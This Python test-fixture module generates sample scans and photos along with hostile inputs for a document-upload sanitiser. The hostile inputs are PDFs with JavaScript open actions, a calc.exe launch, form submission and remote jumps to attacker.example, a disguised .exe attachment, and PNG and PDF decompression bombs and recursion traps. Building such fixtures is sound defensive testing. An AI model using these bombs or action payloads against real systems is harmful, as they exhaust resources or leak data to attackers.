"""Real files for tests, made on the spot: scans, photos, and what attackers and bad phones send instead."""

import io
import random
import struct
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageDraw, ImageFilter

A4 = (595, 842)
MIB = 1024 * 1024


def drawn_page(size: tuple[int, int] = (1240, 1754), seed: int = 1) -> Image.Image:
    """A page of printed words."""
    words = random.Random(seed)
    picture = Image.new("RGB", size, "white")
    pen = ImageDraw.Draw(picture)
    for y in range(60, size[1] - 60, 28):
        line = " ".join("".join(words.choice("abcdefghij") for _ in range(words.randint(2, 9))) for _ in range(16))
        pen.text((60, y), line, fill="black", font_size=20)
    return picture


def portrait(size: tuple[int, int] = (900, 1200)) -> Image.Image:
    """Something with the soft shades and few sharp edges of a face before a wall."""
    picture = Image.radial_gradient("L").resize(size).convert("RGB")
    pen = ImageDraw.Draw(picture)
    width, height = size
    for x in (width // 3, 2 * width // 3):
        pen.ellipse((x - 40, height // 3, x + 40, height // 3 + 30), fill="black")
    pen.arc((width // 3, height // 2, 2 * width // 3, height * 2 // 3), 0, 180, fill="black", width=6)
    for start in range(0, width, 9):
        pen.line((start, 0, width // 2, height // 5), fill=(30, 20, 10), width=2)
    return picture


def blurred(picture: Image.Image, radius: float = 4) -> Image.Image:
    return picture.filter(ImageFilter.GaussianBlur(radius))


def saved(picture: Image.Image, form: str = "JPEG", **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, form, **options)
    return out.getvalue()


def photo_with_position() -> bytes:
    """A phone's JPEG: lying on its side by EXIF orientation 6, with GPS data and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Telephone"
    exif[0x8825] = {1: "N", 2: (51.0, 9.0, 36.0), 3: "E", 4: (71.0, 28.0, 12.0)}
    return saved(drawn_page((1600, 1200)), exif=exif.tobytes(), comment=b"taken at home")


@cache
def scan(pages: int = 1, *, size: tuple[int, int] = (1240, 1754), noise: int = 0) -> bytes:
    """A scanner's PDF: one JPEG a page. `noise` makes it as heavy as a real one."""
    pdf = pikepdf.new()
    for number in range(pages):
        picture = drawn_page(size, number)
        if noise:
            grain = Image.effect_noise(size, noise).convert("RGB")
            picture = Image.blend(picture, grain, 0.3)
        add_picture_page(pdf, saved(picture, quality=50), size)
    return written(pdf)


def add_picture_page(pdf: pikepdf.Pdf, jpeg: bytes, size: tuple[int, int]) -> None:
    image = pikepdf.Stream(pdf, jpeg)
    image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": size[0], "/Height": size[1]})
    image.update({"/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": Name.DCTDecode})
    add_page(pdf, b"q 595 0 0 842 0 0 cm /Im0 Do Q", XObject=Dictionary(Im0=pdf.make_indirect(image)))


def add_page(pdf: pikepdf.Pdf, content: bytes, size: tuple[float, float] = A4, **resources: Any) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=size)
    page.obj.Resources = Dictionary(**resources)
    page.obj.Contents = pdf.make_stream(content)
    return page


def written(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def typed(pages: int = 1) -> pikepdf.Pdf:
    """A word processor's PDF, as an object to be spoilt."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    lines = b" ".join(b"(A line of a bank statement number %d) Tj 0 -14 Td" % number for number in range(50))
    for _ in range(pages):
        add_page(pdf, b"BT /F1 12 Tf 60 780 Td " + lines + b" ET", Font=Dictionary(F1=font))
    return pdf


def spoilt(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = typed()
    change(pdf)
    return written(pdf)


def action(kind: str, **members: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(kind), **members)


def with_open_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = action("/JavaScript", JS="app.alert(1)")


def with_named_script(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array(["x", pdf.make_indirect(action("/JavaScript", JS="app.alert(1)"))]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def with_launch_link(pdf: pikepdf.Pdf) -> None:
    add_link(pdf, action("/Launch", F="calc.exe"))


def with_submit_button(pdf: pikepdf.Pdf) -> None:
    add_link(pdf, action("/SubmitForm", F="http://attacker.example/"))


def with_remote_jump(pdf: pikepdf.Pdf) -> None:
    add_link(pdf, action("/GoToR", F="//attacker.example/share", D=Array([0, Name.Fit])))


def with_web_link(pdf: pikepdf.Pdf) -> None:
    add_link(pdf, action("/URI", URI="https://airline.example/booking"))


def with_page_opening_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=action("/JavaScript", JS="app.alert(1)"))


def with_xfa_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def with_rich_media(pdf: pikepdf.Pdf) -> None:
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(media)])


def with_attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90", filename="invoice.exe")


def with_opening_view(pdf: pikepdf.Pdf) -> None:
    """Harmless: many programs note which page to show first."""
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])


def add_link(pdf: pikepdf.Pdf, what: Dictionary) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=what)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def filled_form() -> bytes:
    """A form with a typed value whose look is stored with the field, as form programs do."""
    pdf = typed()
    look = pdf.make_stream(b"q 0 0 0 rg 0 0 300 40 re f Q")
    look.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 300, 40])})
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="name", V="Aigul", F=4)
    field.Rect, field.AP, field.P = Array([100, 20, 400, 60]), Dictionary(N=look), pdf.pages[0].obj
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)
    return written(pdf)


def locked(**passwords: str) -> bytes:
    return written(typed(), encryption=pikepdf.Encryption(**{"owner": "owner", "user": "", **passwords}))


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def noise_called_pdf() -> bytes:
    return b"%PDF-1.7\n" + random.Random(1).randbytes(50_000)


def picture_bomb() -> bytes:
    """900 million pixels, a bit each, in 110 KB."""
    return black_png(30_000, bits=1, colour=0, mebibytes=108)


def lying_png() -> bytes:
    """Says 6,000 x 6,000 and carries gigabytes of zeros behind that."""
    return black_png(6_000, bits=8, colour=2, mebibytes=2_000)


def black_png(side: int, *, bits: int, colour: int, mebibytes: int) -> bytes:
    """A square, made without ever holding its pixels."""
    head = struct.pack(">IIBBBBB", side, side, bits, colour, 0, 0, 0)
    pixels = packed_zeros(mebibytes)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", pixels) + png_chunk(b"IEND", b"")


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def packed_zeros(mebibytes: int) -> bytes:
    """A zlib stream of so many MiB of zeros, a thousandth in size, without packing them all."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = squeezer.compress(bytes(MIB)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    checksum = (mebibytes * MIB % 65_521) << 16 | 1
    return b"\x78\x9c" + one * mebibytes + b"\x03\x00" + checksum.to_bytes(4, "big")


def moving_png() -> bytes:
    return saved(drawn_page((700, 700)), "PNG", save_all=True, append_images=[Image.new("RGB", (700, 700))])


def content_bomb() -> bytes:
    """A page whose drawing instructions unpack to two gigabytes."""
    packed = packed_zeros(2_000)
    pdf = pikepdf.new()
    page = add_page(pdf, b"")
    page.obj.Contents = pikepdf.Stream(pdf, packed, Filter=Name.FlateDecode)
    return written(pdf, compress_streams=False)


def endless_drawing() -> bytes:
    """Forms that draw each other twice, forty deep: a trillion pictures."""
    pdf = pikepdf.new()
    inner = pdf.make_stream(b"0 0 1 1 re f")
    inner.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 600, 900])})
    for _ in range(26):
        outer = pdf.make_stream(b"/X Do " * 8)
        outer.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 600, 900])})
        outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    add_page(pdf, b"/X Do", XObject=Dictionary(X=inner))
    return written(pdf)


def huge_picture_in_pdf() -> bytes:
    """A page that draws a picture of 3.6 billion pixels."""
    pdf = pikepdf.new()
    packed = packed_zeros(1_000)
    image = pikepdf.Stream(pdf, packed)
    image.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 60_000, "/Height": 60_000})
    image.update({"/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": Name.FlateDecode})
    add_page(pdf, b"q 595 0 0 842 0 0 cm /Im0 Do Q", XObject=Dictionary(Im0=image))
    return written(pdf, compress_streams=False)


def deep_array() -> bytes:
    pdf = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + b"[" * 100_000 + b"]" * 100_000 + b">>\nendobj\n"
    return pdf + b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n"


def page_tree_loop() -> bytes:
    pdf = typed()
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
    return written(pdf)
